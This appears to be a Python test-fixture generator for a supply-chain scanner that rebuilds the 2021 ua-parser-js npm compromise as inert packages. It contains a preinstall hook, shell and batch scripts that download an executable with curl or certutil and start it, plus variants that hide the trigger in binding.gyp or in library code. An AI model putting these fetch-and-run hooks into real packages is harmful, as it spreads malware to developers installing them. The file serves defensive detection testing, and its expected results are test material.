"""ua-parser-js 0.7.29, October 2021: a hook before installation, and two scripts that fetch programs."""

from __future__ import annotations

from pathlib import Path

from onionskin.lookalike.layout_parts import write_npm

META = {
    "title": "ua-parser-js 0.7.29, npm",
    "year": 2021,
    "platform": "npm",
    "sources": ["GitHub advisory GHSA-pjwm-rvh2-c87w, October 2021; CISA alert of 22 October 2021"],
    "rebuilt": "a patch release with a preinstall hook, a script that tells systems apart, and one script each for "
    "shells and Windows that would fetch a file and start it",
    "left_out": "addresses and programs: each script ends in its first line, and the name is of .invalid",
    "expected": {"against": "review", "alone": "nothing_found"},
    "signals": ["new-install-hook", "new-script-reaches-out", "technique-rule"],
    "why": "a hook in a patch release is the fault; that its script fetches and starts is what a rule sees",
    "human": "that this publisher never had a native part to build",
}  # fmt: skip

LIBRARY = "(function (window) {\n  var UAParser = function (ua) { return { ua: ua } }\n})(this)\n"
START = "process.exit(0) // inert\n"
SPREADS = (
    START
    + "const os = require('os'), { spawn, exec } = require('child_process')\n"
    + "if (os.platform() === 'win32') spawn('cmd.exe', ['/c', 'preinstall.bat'])\n"
    + "else exec('/bin/bash preinstall.sh')\n"
)
SHELL = (
    "exit 0 # inert\n"
    "curl http://inert.invalid/extension -o /tmp/extension && chmod +x /tmp/extension\n"
    "/tmp/extension -o inert.invalid:443 --background\n"
)
BATCH = (
    "@exit /b 0\r\n"
    "curl http://inert.invalid/extension.exe -o extension.exe\r\n"
    "if not exist extension.exe certutil.exe -urlcache -f http://inert.invalid/extension.exe extension.exe\r\n"
    "start /B extension.exe -o inert.invalid:443\r\n"
    "regsvr32.exe -s create.dll\r\n"
)


def _package(folder: Path, version: str, hooks: dict[str, str], more: dict[str, str]) -> Path:
    manifest = {"main": "src/parser.js", "scripts": {"test": "mocha", **hooks}}
    files = {"src/parser.js": LIBRARY, "readme.md": f"# inert {version}\n", **more}
    return write_npm(folder, "inert-parser", version, manifest, files)


def before(folder: Path) -> Path:
    """Write 0.7.28."""
    return _package(folder, "0.7.28", {}, {})


def trojanised(folder: Path) -> Path:
    """Write 0.7.29."""
    hook = {"preinstall": "start /B node preinstall.js & node preinstall.js"}
    scripts = {"preinstall.js": SPREADS, "preinstall.sh": SHELL, "preinstall.bat": BATCH}
    return _package(folder, "0.7.29", hook, scripts)


def twin(folder: Path) -> Path:
    """Write a patch release that knows more browsers, and has a script for its own developers."""
    more = {"src/parser.js": LIBRARY.replace("ua: ua", "ua: ua, device: ''")}
    return _package(folder, "0.7.29", {"build": "uglifyjs src/parser.js"}, more)


def _by_gyp(folder: Path) -> Path:
    """Write no hook in the manifest: npm runs node-gyp for a binding.gyp by itself."""
    gyp = '{"targets": [{"target_name": "inert", "sources": ["<!(node preinstall.js)"]}]}\n'
    scripts = {"preinstall.js": SPREADS, "preinstall.sh": SHELL, "binding.gyp": gyp}
    return _package(folder, "0.7.29", {}, scripts)


def _at_the_first_use(folder: Path) -> Path:
    """Write no hook at all: the library starts the script when it is first asked for."""
    code = LIBRARY + "if (false) require('child_process').exec('/bin/bash preinstall.sh')\n"
    return _package(folder, "0.7.29", {}, {"src/parser.js": code, "preinstall.sh": SHELL})


VARIANTS = {
    "by a binding.gyp": _by_gyp,
    "without a hook, at the first use": _at_the_first_use,
}
